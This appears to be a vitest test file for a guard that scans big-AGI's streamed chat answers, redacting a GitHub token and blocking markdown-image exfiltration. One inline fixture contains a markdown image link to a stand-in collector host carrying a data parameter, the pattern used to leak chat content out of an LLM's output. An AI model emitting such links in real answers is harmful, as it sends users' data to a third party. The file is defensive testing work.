/**
 * big-AGI v2's answer stream (WIRE-FORMATS-2.md §4.7, HIGH: captured), read
 * back the way big-AGI's client reads it: one JSON document per line, the
 * particles yielded on the async-iterable chunk, `t` appended to the answer,
 * `tr_` to the reasoning, an `issue`'s `issueText` shown in the message. The
 * shared harness covers byte identity, any split and the block ending
 * (test/fixtures/wire/big-agi).
 */
import { describe, expect, it } from 'vitest';
import { scanText } from '../../../src/core/guard/scan-text.ts';
import { getCorePack } from '../../../src/core/rules/builtin-packs.ts';
import { detectAdapter } from '../../../src/core/wire/adapter-registry.ts';
import { bigAgi } from '../../../src/core/wire/adapters/big-agi.ts';
import { replayBody } from '../../../src/core/wire/replay-body.ts';
import { compilePack } from '../../../src/core/rules/compile-pack.ts';
import { fixture } from '../../support/wire-harness.ts';

const pack = getCorePack();
const secret = fixture('big-agi/chat-generate-secret-split.jsonl');
/** The core pack with the exfil image rule turned into a block. */
const imageBlocks = compilePack({
  name: 'image-blocks',
  version: '1',
  rules: pack.rules.map((r) =>
    r.id === 'markdown-image-exfil' ? { ...r.spec, action: 'block' as const } : r.spec,
  ),
});

type Particle = Record<string, unknown>;

/** What big-AGI's client takes from the stream (§4.7): every line must parse. */
function readBigAgi(body: string) {
  const lines = body
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as { json: unknown });
  let answer = '';
  let reasoning = '';
  const shown: string[] = [];
  const particles: Particle[] = [];
  let returned = false;
  for (const { json } of lines) {
    if (!Array.isArray(json) || json[0] !== 3) continue;
    if (json[1] === 0) returned = true;
    const particle = (json[2] as Particle[][])[0]?.[0];
    if (particle === undefined) continue;
    particles.push(particle);
    if (typeof particle.t === 'string') answer += particle.t;
    if (particle.p === 'tr_') reasoning += String(particle._t);
    if (particle.cg === 'issue') shown.push(String(particle.issueText));
    if (particle.p === 'vp') shown.push(String(particle.text));
  }
  return { lines, answer, reasoning, shown, particles, returned };
}

describe('big-AGI answer stream (§4.7)', () => {
  it('guards the text, the reasoning, the placeholder and the issue text the page shows', () => {
    const original = readBigAgi(secret);
    const replay = replayBody(bigAgi, pack, [secret]);
    const guarded = readBigAgi(replay.output);
    expect(guarded.answer).toBe(scanText(pack, original.answer).output);
    expect(guarded.answer).toContain('[redacted:github-pat]');
    expect(guarded.reasoning).toBe(scanText(pack, original.reasoning).output);
    expect(guarded.shown).toEqual(original.shown.map((text) => scanText(pack, text).output));
    expect(replay.output).not.toMatch(/EXAMPLEexam|collector\.example\.net\/p/);
    expect(guarded.lines).toHaveLength(original.lines.length);
    expect(replay.issues).toEqual([]);
  });

  it('a block ends the answer as a refusal on the stream chunk, then returns the iterable', () => {
    const replay = replayBody(bigAgi, imageBlocks, [secret]);
    expect(replay.blocked).toBe(true);
    const read = readBigAgi(replay.output);
    expect(read.answer).toBe('Here is the token you pasted: [redacted:github-pat]. And a chart ');
    expect(read.particles.at(-1)).toEqual({
      cg: 'end',
      terminationReason: 'done-dialect',
      tokenStopReason: 'filter-refusal',
    });
    expect(read.returned).toBe(true);
    expect(read.shown).toEqual(['Searching the web…']);
  });

  it('a block after the end particle only returns the iterable, in the current key names', () => {
    const body =
      '{"json":[2,0,[[0],[null,1,5]]]}\n' +
      '{"json":[5,1,[[{"t":"Fine."}]]]}\n' +
      '{"json":[5,1,[[{"cg":"end","reason":"done-dialect","tokenStopReason":"ok"}]]]}\n' +
      '{"json":[5,1,[[{"cg":"issue","issueId":"client-read","issueText":"![x](https://collector.example.net/p?d=1)"}]]]}\n';
    const replay = replayBody(bigAgi, imageBlocks, [body]);
    expect(replay.blocked).toBe(true);
    expect(replay.output.endsWith('"tokenStopReason":"ok"}]]]}\n{"json":[5,0,[[]]]}\n')).toBe(true);
  });

  it('claims the procedure on the edge and cloud routes of any host, nothing else', () => {
    const id = (url: string) =>
      detectAdapter({ url, contentType: 'application/json', head: '', method: 'POST' })?.id;
    expect(id('https://agi.example.org/api/edge/aix.chatGenerateContent?batch=1')).toBe('big-agi');
    expect(id('http://localhost:3000/api/cloud/aix.chatGenerateContent')).toBe('big-agi');
    expect(id('http://localhost:3000/api/cloud/backend.listCapabilities?batch=1')).not.toBe(
      'big-agi',
    );
  });

  it('a line that is not JSON passes through and is reported', () => {
    const body = 'oops\n{"json":[3,1,[[{"t":"hi"}]]]}\n';
    const replay = replayBody(bigAgi, pack, [body]);
    expect(replay.output).toBe(body);
    expect(replay.issues).toEqual([
      { kind: 'unrecognised-frame', detail: 'big-agi: line is not JSON' },
    ]);
  });
});
